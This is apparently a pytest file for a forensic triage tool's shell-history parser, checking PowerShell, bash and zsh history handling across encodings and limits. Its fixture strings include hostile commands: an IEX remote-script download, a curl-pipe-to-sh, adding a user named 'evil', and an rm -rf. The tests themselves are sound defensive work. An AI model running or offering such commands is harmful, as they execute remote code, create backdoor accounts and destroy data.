"""Shell history parser on history files built here in each shell's real on-disk format."""

from __future__ import annotations

import codecs
from pathlib import Path

from triage.model import CommandHistory, Issue
from triage.parsers.base import input_from_file
from triage.parsers.history import ShellHistoryParser, shell_of

PSREADLINE = "Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"


def _parse(tmp_path: Path, data: bytes, rel: str = PSREADLINE, **options) -> list:
    path = tmp_path / Path(rel).name
    path.write_bytes(data)
    item = input_from_file(path, rel)
    item.options.update(options)
    return list(ShellHistoryParser().parse(item))


def _commands(out) -> list[str]:
    return [o.command for o in out if isinstance(o, CommandHistory)]


def test_psreadline_utf8_crlf(tmp_path):
    # PSReadLine writes UTF-8 without BOM, CRLF, and continues multi-line commands with a backtick.
    text = "whoami /all\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\r\n" \
           "Get-ChildItem `\r\n  -Recurse C:\\Users\r\nWrite-Host 'héllo ✓'\r\n"
    out = _parse(tmp_path, text.encode("utf-8"))
    assert _commands(out) == ["whoami /all", "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
                              "Get-ChildItem `", "  -Recurse C:\\Users", "Write-Host 'héllo ✓'"]
    first = out[0]
    assert (first.shell, first.user, first.line_number, first.source.locator) == ("powershell", "bob", 1, "line 1")
    assert [o.line_number for o in out] == [1, 2, 3, 4, 5]


def test_utf16_with_bom(tmp_path):
    for bom, enc in ((codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")):
        out = _parse(tmp_path, bom + "net user evil P@ss /add\r\nipconfig\r\n".encode(enc))
        assert _commands(out) == ["net user evil P@ss /add", "ipconfig"]


def test_utf8_bom_and_bad_bytes(tmp_path):
    out = _parse(tmp_path, codecs.BOM_UTF8 + b"dir\n\xff\xfe\x80bad\nok\n")
    assert _commands(out) == ["dir", "\ufffd\ufffd\ufffdbad", "ok"]


def test_bash_and_zsh_lines_kept_verbatim(tmp_path):
    bash = _parse(tmp_path, b"#1700000000\ncurl -s http://x/i.sh | sh\nrm -rf /tmp/.x\n", "home/eve/.bash_history")
    assert _commands(bash) == ["#1700000000", "curl -s http://x/i.sh | sh", "rm -rf /tmp/.x"]
    assert {(o.shell, o.user) for o in bash} == {("bash", "eve")}
    zsh = _parse(tmp_path, b": 1700000000:0;ls -la\n: 1700000005:2;sudo su\n", "home/eve/.zsh_history")
    assert _commands(zsh) == [": 1700000000:0;ls -la", ": 1700000005:2;sudo su"]
    assert zsh[0].shell == "zsh"


def test_long_lines_are_cut_and_reported(tmp_path):
    data = b"a" * 100_000 + b"\nshort\n" + b"b" * 50 + b"\n"
    out = _parse(tmp_path, data, max_line_chars=1000)
    assert _commands(out) == ["a" * 1000, "short", "b" * 50]
    assert [o.line_number for o in out if isinstance(o, CommandHistory)] == [1, 2, 3]
    (issue,) = [o for o in out if isinstance(o, Issue)]
    assert issue.severity == "warning" and "1 line(s)" in issue.message


def test_line_count_cap(tmp_path):
    data = b"".join(b"cmd %d\n" % i for i in range(50))
    out = _parse(tmp_path, data, max_lines=10)
    assert _commands(out) == [f"cmd {i}" for i in range(10)]
    assert any("more than 10 lines" in o.message for o in out if isinstance(o, Issue))
    assert not [o for o in _parse(tmp_path, data, max_lines=50) if isinstance(o, Issue)]


def test_empty_and_no_final_newline(tmp_path):
    assert _parse(tmp_path, b"") == []
    assert _commands(_parse(tmp_path, b"last-without-newline")) == ["last-without-newline"]


def test_patterns():
    assert ShellHistoryParser.matches(PSREADLINE)
    assert ShellHistoryParser.matches(PSREADLINE.replace("ConsoleHost", "Visual Studio Code Host"))
    assert ShellHistoryParser.matches("home/eve/.bash_history") and ShellHistoryParser.matches("root/.zsh_history")
    assert not ShellHistoryParser.matches("home/eve/.python_history")
    assert shell_of(PSREADLINE) == "powershell"


def test_reads_a_streamed_zip_member(tmp_path):
    """In a bundle the file arrives as a deflated zip member stream (no path, peek from the zip)."""
    import zipfile

    src = tmp_path / "ConsoleHost_history.txt"
    src.write_bytes(codecs.BOM_UTF16_LE + "whoami\r\nipconfig /all\r\n".encode("utf-16-le"))
    with zipfile.ZipFile(tmp_path / "b.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.write(src, "files/C/" + PSREADLINE)
    with zipfile.ZipFile(tmp_path / "b.zip") as zf:
        item = input_from_file(src, PSREADLINE)
        item.open = lambda: zf.open("files/C/" + PSREADLINE)
        assert _commands(ShellHistoryParser().parse(item)) == ["whoami", "ipconfig /all"]
